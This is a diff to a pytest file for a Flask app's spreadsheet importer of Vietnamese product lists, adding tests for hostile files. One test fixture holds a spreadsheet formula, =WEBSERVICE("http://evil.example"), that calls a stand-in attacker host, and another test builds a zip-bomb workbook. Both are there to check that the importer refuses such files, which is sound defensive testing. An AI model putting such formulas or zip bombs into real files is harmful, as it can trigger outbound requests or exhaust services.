@@ -5,8 +5,10 @@ import io
 import unicodedata
 
 import pytest
+from flask_babel import force_locale
 from openpyxl import Workbook
 
+from app import spreadsheets
 from app.products import importer
 from app.products.exporter import HEADERS as EXPORT_HEADERS
 from app.spreadsheets import (
@@ -21,6 +23,7 @@ from app.spreadsheets import (
     unescape_cell,
 )
 from app.wizard import members_import
+from tests.spreadsheet_files import zip_bomb_xlsx
 
 
 @pytest.mark.parametrize("text, key", [
@@ -52,7 +55,9 @@ PRODUCT_HEADERS = {
     "Số sao": "stars", "Hạng sao": "stars", "Xếp hạng": "stars", "Số sao (★)": "stars", "Kết quả đánh giá": "stars",
     "Xã/Phường": "ward", "Xã/phường": "ward", "Xã, phường": "ward", "Phường/Xã": "ward", "Xã phường": "ward",
     "Địa chỉ (xã/phường)": "ward", "Địa bàn": "ward", "Xã/Phường/Thị trấn": "ward",
-    "Số giấy chứng nhận": "certificate_number", "Số GCN": "certificate_number", "Số QĐ": "certificate_number",
+    "Số giấy chứng nhận": "certificate_number", "Số GCN": "certificate_number", "Số QĐ": "decision_number",
+    "QĐ công nhận số": "decision_number", "Số Quyết định": "decision_number", "Địa chỉ": "address",
+    "Tên sảm phẩm": "name",  # a typo
     "Số GCN/QĐ": "certificate_number", "Mã chứng nhận": "certificate_number",
     "Ngày cấp": "issued_on", "Ngày công nhận": "issued_on", "Ngày cấp (dd/mm/yyyy)": "issued_on",
     "Ngày hết hạn": "expires_on", "Hiệu lực đến": "expires_on", "Năm công nhận": "year", "Năm": "year",
@@ -158,3 +163,72 @@ def test_csv_that_is_not_utf8_is_read_as_windows_1258():
 def test_unreadable_files_are_rejected(app, data, filename):
     with pytest.raises(ImportRejected):
         read_table(filename, data)
+
+
+# --- Big and hostile files -------------------------------------------------------------------
+
+def _xlsx(fill) -> bytes:
+    workbook = Workbook()
+    fill(workbook.active)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("part, megabytes", [("xl/worksheets/sheet1.xml", 200), ("xl/sharedStrings.xml", 40)])
+def test_a_zip_bomb_is_refused_from_the_zip_directory_without_parsing_the_sheet(app, monkeypatch, part, megabytes):
+    data = zip_bomb_xlsx(part, megabytes)
+    assert len(data) < 1024 * 1024  # sub-megabyte on disk, hundreds of MB unpacked
+    opened = []
+    monkeypatch.setattr(spreadsheets.openpyxl, "load_workbook", lambda *a, **k: opened.append(1))
+    with app.test_request_context(), force_locale("vi"), pytest.raises(ImportRejected) as refused:
+        read_table("bom.xlsx", data)
+    with app.test_request_context(), force_locale("vi"):
+        assert "giải nén ra hơn" in str(refused.value.message)
+    assert opened == []  # refused before openpyxl read a byte of the sheet
+
+
+def test_rows_beyond_the_limit_are_refused_while_streaming(app):
+    rows = 100 + spreadsheets.EXTRA_ROWS + 1  # titles, headings and a footer are allowed beyond the limit
+    data = _xlsx(lambda sheet: [sheet.append([f"Sản phẩm {i}", "HTX"]) for i in range(rows)])
+    assert len(read_table("ok.xlsx", data, max_rows=101).rows) == rows
+    with pytest.raises(ImportRejected) as refused:
+        read_table("long.xlsx", data, max_rows=100)
+    with app.test_request_context(), force_locale("en"):
+        assert str(refused.value.message) == "The file has more than 100 rows."
+
+
+def test_a_long_blank_run_ends_the_list_and_far_columns_are_ignored():
+    def fill(sheet):
+        sheet.append(["Tên sản phẩm", "Chủ thể"])
+        sheet.append(["Khóm", "HTX Hỏa Tiến"])
+        sheet.cell(row=2, column=spreadsheets.MAX_COLUMNS + 5, value="far right")
+        sheet.cell(row=3 + spreadsheets.BLANK_RUN_END, column=1, value="after a thousand blank rows")
+        sheet.cell(row=1_048_576, column=1, value="last row of the sheet")
+    table = read_table("blank.xlsx", _xlsx(fill))
+    assert table.rows == [["Tên sản phẩm", "Chủ thể"], ["Khóm", "HTX Hỏa Tiến"]]
+
+
+def test_formulas_and_external_references_are_read_as_text_never_evaluated():
+    def fill(sheet):
+        sheet.append(["Tên sản phẩm", "Chủ thể"])
+        sheet.append(["=[1]Sheet1!A1", "=WEBSERVICE(\"http://evil.example\")"])
+    table = read_table("f.xlsx", _xlsx(fill))
+    assert table.rows[1] == ["=[1]Sheet1!A1", "=WEBSERVICE(\"http://evil.example\")"]
+    assert table.formulas == {(1, 0), (1, 1)}
+
+
+def test_merged_ranges_in_a_streamed_sheet_fill_their_whole_range():
+    def fill(sheet):
+        sheet.append(["DANH SÁCH"])
+        sheet.append(["Tên sản phẩm", "Chủ thể", "Ngày", None])
+        sheet.append([None, None, "Cấp", "Hết hạn"])
+        sheet.append(["Khóm", "HTX A", "1/1/2024", "1/1/2027"])
+        sheet.append(["Mứt", None, None, None])
+        for cells in ("A1:D1", "A2:A3", "B2:B3", "C2:D2", "B4:B5"):
+            sheet.merge_cells(cells)
+    rows = read_table("m.xlsx", _xlsx(fill)).rows
+    assert rows[0] == ["DANH SÁCH"] * 4
+    assert rows[1] == ["Tên sản phẩm", "Chủ thể", "Ngày", "Ngày"]
+    assert rows[2] == ["Tên sản phẩm", "Chủ thể", "Cấp", "Hết hạn"]
+    assert rows[4] == ["Mứt", "HTX A"]
